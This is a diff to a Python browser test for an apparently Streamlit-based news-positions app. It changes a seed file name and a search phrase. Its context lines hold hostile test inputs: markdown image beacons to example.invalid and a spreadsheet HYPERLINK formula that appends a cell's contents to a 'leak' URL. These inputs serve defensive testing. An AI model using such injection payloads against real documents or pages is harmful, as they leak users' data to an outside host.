@@ -10,7 +10,7 @@ import pytest
 from test_browser import CHROMIUM, browser, running_app, settle  # noqa: F401  (browser: a fixture used by name)
 
 ROOT = Path(__file__).resolve().parent.parent
-SEED = ROOT / "seeds" / "2025-02-14-us-russia-talks-europe-reacts.txt"
+SEED = ROOT / "seeds" / "000_6f88fa4361e87f91.txt"
 TITLE = "![x](http://example.invalid/p.png)"
 SOURCE = "![y](http://example.invalid/q.png) [src](http://example.invalid/s)"
 FORMULA = '=HYPERLINK("http://example.invalid/leak?"&A1,"open")'
@@ -70,7 +70,7 @@ def test_selected_evidence_is_in_view_in_its_box(hostile_server, browser):
     page = context.new_page()
     page.goto(f"{hostile_server}/positions")
     settle(page)
-    page.get_by_placeholder("e.g. sanctions").fill("surge in defence spending")
+    page.get_by_placeholder("e.g. sanctions").fill("stepping up for Ukraine")
     page.keyboard.press("Enter")
     settle(page)
     grid = page.locator("[data-testid='stDataFrame']").first.bounding_box()
@@ -80,7 +80,7 @@ def test_selected_evidence_is_in_view_in_its_box(hostile_server, browser):
         const mark = box.querySelector('mark'); const b = box.getBoundingClientRect(), m = mark.getBoundingClientRect();
         return {boxTop: b.top, boxBottom: b.bottom, markTop: m.top, markBottom: m.bottom,
                 overflows: box.scrollHeight > box.clientHeight, text: mark.innerText} }""")
-    assert "surge in defence spending" in geometry["text"]
+    assert "stepping up for Ukraine" in geometry["text"]
     assert geometry["boxTop"] <= geometry["markTop"] and geometry["markBottom"] <= geometry["boxBottom"], geometry
     assert page.get_by_text("Earlier text (").count() == 1  # the article's start is still one click away
     context.close()
